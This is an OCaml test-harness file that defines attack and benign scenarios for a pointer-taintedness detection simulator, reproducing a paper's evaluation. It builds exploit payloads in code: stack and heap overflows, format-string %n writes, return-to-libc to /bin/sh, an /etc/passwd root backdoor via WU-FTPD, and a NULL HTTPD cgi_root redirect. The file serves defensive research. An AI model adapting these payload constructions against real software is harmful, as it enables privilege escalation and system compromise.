open Ptaint_apps
module Sim = Ptaint_sim.Sim

let compiled source = lazy (Ptaint_runtime.Runtime.compile source)
let build l () = Lazy.force l

let exec_bin_sh (r : Ptaint_sim.Sim.result) =
  if
    List.exists
      (fun p -> Payload.normalize_path p = "/bin/sh")
      r.Ptaint_sim.Sim.execs
  then Some "spawned /bin/sh with server privileges"
  else None

let never_compromised (_ : Ptaint_sim.Sim.result) = None

let stdin_config input _program = { Sim.default_config with Sim.stdin = input }
let sessions_config sessions _program = { Sim.default_config with Sim.sessions }

let attack_benign attack benign =
  [ Scenario.attack_case attack; Scenario.benign_case benign ]

(* --- synthetic (Figure 2) --- *)

let exp1_program = compiled Synthetic.exp1

let exp1_stack_smash =
  { Scenario.name = "exp1 stack smash (24 x 'a')";
    kind = Scenario.Control_data;
    description =
      "Figure 2 stack buffer overflow: 24 input bytes overrun buf[10], tainting the \
       saved frame pointer and return address (0x61616161).";
    build = build exp1_program;
    cases = attack_benign (stdin_config (Payload.fill 24 ^ "\n")) (stdin_config "hi\n");
    compromised = never_compromised }

let exp1_ret2libc =
  { Scenario.name = "exp1 return-to-libc";
    kind = Scenario.Control_data;
    description =
      "The same overflow with a targeted payload: the return address is replaced by \
       the address of root_shell(), which exec's /bin/sh.";
    build = build exp1_program;
    cases =
      attack_benign
        (fun program ->
          let target = Ptaint_asm.Program.symbol_exn program Synthetic.root_shell_symbol in
          { Sim.default_config with
            Sim.stdin = Payload.overflow_word ~pad:Synthetic.exp1_buffer_to_ra target ^ "\n" })
        (stdin_config "hi\n");
    compromised = exec_bin_sh }

let exp2_heap =
  { Scenario.name = "exp2 heap corruption";
    kind = Scenario.Control_data;
    description =
      "Figure 2 heap overflow: input overruns an 8-byte malloc'd buffer into the free \
       chunk behind it, forging its size/fd/bk; free()'s unlink then dereferences the \
       tainted fd (0x61616161).";
    build = build (compiled Synthetic.exp2);
    cases =
      attack_benign
        (stdin_config
           (Payload.fill Synthetic.exp2_user_to_next_header
            ^ Payload.fake_chunk ~size:0x40 ~fd:0x61616161 ~bk:0x61616161
            ^ "\n"))
        (stdin_config "ok\n");
    compromised = never_compromised }

let exp3_format =
  { Scenario.name = "exp3 format string (abcd%x%x%x%n)";
    kind = Scenario.Control_data;
    description =
      "Figure 2 format string: recv'd data used as printf format; %n dereferences the \
       tainted word 0x64636261 ('abcd').";
    build = build (compiled Synthetic.exp3);
    cases =
      attack_benign
        (sessions_config [ [ "abcd%x%x%x%n" ] ])
        (sessions_config [ [ "hello from a polite client" ] ]);
    compromised = never_compromised }

let exp4_program = compiled Synthetic.exp4_fnptr

let exp4_fnptr =
  { Scenario.name = "exp4 function-pointer overwrite";
    kind = Scenario.Control_data;
    description =
      "Overflow into an adjacent stack function pointer; the corrupted JALR target is \
       control data, so even control-flow-integrity baselines catch it.";
    build = build exp4_program;
    cases =
      attack_benign
        (fun program ->
          let target = Ptaint_asm.Program.symbol_exn program Synthetic.root_shell_symbol in
          { Sim.default_config with
            Sim.stdin = Payload.overflow_word ~pad:Synthetic.exp4_buffer_to_fnptr target ^ "\n" })
        (stdin_config "hello\n");
    compromised = exec_bin_sh }

(* --- real-world applications (section 5.1.2) --- *)

let wuftpd_program = compiled Wuftpd.source
let initial_passwd = "root:x:0:0:root:/root:/bin/bash\n"

let wuftpd_format_uid =
  { Scenario.name = "WU-FTPD SITE EXEC format string -> uid";
    kind = Scenario.Non_control_data;
    description =
      "Table 2: the SITE EXEC format-string bug overwrites the logged-in user's uid \
       word with 0, then STOR rewrites /etc/passwd with a root backdoor.  No control \
       data is touched.";
    build = build wuftpd_program;
    cases =
      attack_benign
        (fun program ->
          let uid_addr = Ptaint_asm.Program.symbol_exn program Wuftpd.uid_symbol in
          let payload = Payload.format_write_word ~ap_skip_words:0 ~target:uid_addr ~value:0 in
          { Sim.default_config with
            Sim.sessions =
              [ Wuftpd.login_session @ [ Wuftpd.site_exec payload; Wuftpd.stor_passwd; "quit\n" ] ];
            fs_init = [ (Wuftpd.passwd_path, initial_passwd) ] })
        (fun _ ->
          { Sim.default_config with
            Sim.sessions =
              [ Wuftpd.login_session @ [ "site exec uptime\n"; Wuftpd.stor_passwd; "quit\n" ] ];
            fs_init = [ (Wuftpd.passwd_path, initial_passwd) ] });
    compromised =
      (fun r ->
        match Ptaint_os.Fs.read (Ptaint_os.Kernel.fs r.Ptaint_sim.Sim.kernel) ~path:Wuftpd.passwd_path with
        | Some contents
          when contents <> initial_passwd
               && String.length contents >= String.length Wuftpd.backdoor_line ->
          Some "replaced /etc/passwd with a root backdoor entry"
        | _ -> None) }

let nullhttpd_program = compiled Nullhttpd.source

let nullhttpd_cgi_root =
  { Scenario.name = "NULL HTTPD heap overflow -> CGI-BIN config";
    kind = Scenario.Non_control_data;
    description =
      "A POST with Content-Length -800 undersizes the heap body buffer; the oversized \
       body forges the next chunk so that free()'s unlink write repoints cgi_root at \
       \"/bin\", and a follow-up GET /cgi-bin/sh runs /bin/sh.";
    build = build nullhttpd_program;
    cases =
      attack_benign
        (fun program ->
          let image = Ptaint_asm.Loader.load ~argv:[ "nullhttpd" ] program in
          let cgi_root = Ptaint_asm.Program.symbol_exn program Nullhttpd.cgi_root_symbol in
          let body_user = image.Ptaint_asm.Loader.heap_base + 4 in
          let alloc = 1024 - 800 in
          (* unlink performs FD->bk = BK then BK->fd = FD.  Aim the
             second write at cgi_root (bk = &cgi_root - 4); the first
             write clobbers FD+8, and free's closing bin-insert clobbers
             body[0..7], so the "/bin" string is planted at offset 12:
             insert hits 0..7, the mirror write hits 20..23, both
             harmless. *)
          let bin_string = body_user + 12 in
          let body =
            Payload.fill 12
            ^ "/bin\000"
            ^ Payload.fill (alloc - 17)
            ^ Payload.fake_chunk ~size:0x40 ~fd:bin_string ~bk:(cgi_root - 4)
          in
          { Sim.default_config with
            Sim.argv = [ "nullhttpd" ];
            sessions =
              [ Nullhttpd.post_request ~content_length:(-800) ~body; [ Nullhttpd.get_cgi "sh" ] ] })
        (fun _ ->
          { Sim.default_config with
            Sim.argv = [ "nullhttpd" ];
            sessions =
              [ Nullhttpd.post_request ~content_length:5 ~body:"hello";
                [ Nullhttpd.get_cgi "status" ] ] });
    compromised = exec_bin_sh }

let ghttpd_program = compiled Ghttpd.source

let ghttpd_url_pointer =
  { Scenario.name = "GHTTPD stack overflow -> URL pointer";
    kind = Scenario.Non_control_data;
    description =
      "A 204-byte request line overruns the 200-byte log buffer and replaces the url \
       pointer local — after the /.. policy check — with the stack address of a \
       second fragment naming /cgi-bin/../../../../bin/sh.";
    build = build ghttpd_program;
    cases =
      attack_benign
        (fun program ->
          let image = Ptaint_asm.Loader.load ~argv:[ "ghttpd" ] program in
          let fp_main = Scenario.main_frame_pointer image in
          let request_base = fp_main - 4096 in
          let line1_len = Ghttpd.overflow_to_url + 4 in
          let tail_addr = request_base + line1_len + 2 in
          let line1 =
            "GET /"
            ^ Payload.fill ~byte:'A' (Ghttpd.overflow_to_url - 5)
            ^ Payload.le_word tail_addr
          in
          let request = line1 ^ "\n\n" ^ Ghttpd.attack_tail in
          { Sim.default_config with Sim.argv = [ "ghttpd" ]; sessions = [ [ request ] ] })
        (fun _ ->
          { Sim.default_config with
            Sim.argv = [ "ghttpd" ];
            sessions = [ [ "GET /index.html\n\n" ] ] });
    compromised = exec_bin_sh }

let traceroute_program = compiled Traceroute.source

let traceroute_double_free =
  { Scenario.name = "traceroute -g double free";
    kind = Scenario.Control_data;
    description =
      "traceroute -g 123 -g 5.6.7.8: the gateway parser free()s a pointer into the \
       middle of the savestr pool, so free's chunk walk interprets the first gateway \
       string (\"123\\0\" = 0x00333231) as a size field and dereferences an address \
       built from those command-line bytes.";
    build = build traceroute_program;
    cases =
      attack_benign
        (fun _ -> { Sim.default_config with Sim.argv = Traceroute.attack_argv })
        (fun _ -> { Sim.default_config with Sim.argv = Traceroute.benign_argv });
    compromised = never_compromised }

(* --- remaining taint sources: environment and file system --- *)

let login_program = compiled Cli.login

let env_login =
  { Scenario.name = "login $HOME overflow (environment source)";
    kind = Scenario.Control_data;
    description =
      "A setuid-style login tool strcpy's $HOME into a 32-byte stack buffer; an \
       oversized value plants a return address (the terminating NUL from strcpy \
       supplies the address's high zero byte, the classic trick).  Environment \
       variables are tainted input, so the corrupted return is caught at JR.";
    build = build login_program;
    cases =
      attack_benign
        (fun program ->
          let target = Ptaint_asm.Program.symbol_exn program Synthetic.root_shell_symbol in
          (* environment values travel as C strings: the three low bytes
             must be NUL-free (strcpy's terminator supplies the high
             zero byte of the 0x004xxxxx address) *)
          let addr3 = String.sub (Payload.le_word target) 0 3 in
          assert (not (String.contains addr3 '\000'));
          { Sim.default_config with
            Sim.env = [ ("HOME", Payload.fill Cli.login_buffer_to_ra ^ addr3) ] })
        (fun _ -> { Sim.default_config with Sim.env = [ ("HOME", "/home/alice") ] });
    compromised = exec_bin_sh }

let logd_program = compiled Cli.logd

let logd_config =
  { Scenario.name = "logd poisoned config (file source)";
    kind = Scenario.Non_control_data;
    description =
      "A log daemon reads its line template from /etc/logd.conf and uses it as a \
       printf format.  File contents are tainted input; a %n in the template \
       dereferences a word assembled from the (tainted) log line itself.";
    build = build logd_program;
    cases =
      attack_benign
        (fun _ ->
          { Sim.default_config with Sim.fs_init = [ (Cli.logd_conf_path, "AAAA%x%n\n") ] })
        (fun _ ->
          { Sim.default_config with Sim.fs_init = [ (Cli.logd_conf_path, "logd[%s]\n") ] });
    compromised = never_compromised }

let synthetic = [ exp1_stack_smash; exp1_ret2libc; exp2_heap; exp3_format; exp4_fnptr ]

let real_world =
  [ wuftpd_format_uid; nullhttpd_cgi_root; ghttpd_url_pointer; traceroute_double_free ]

let other_sources = [ env_login; logd_config ]
let all = synthetic @ real_world @ other_sources
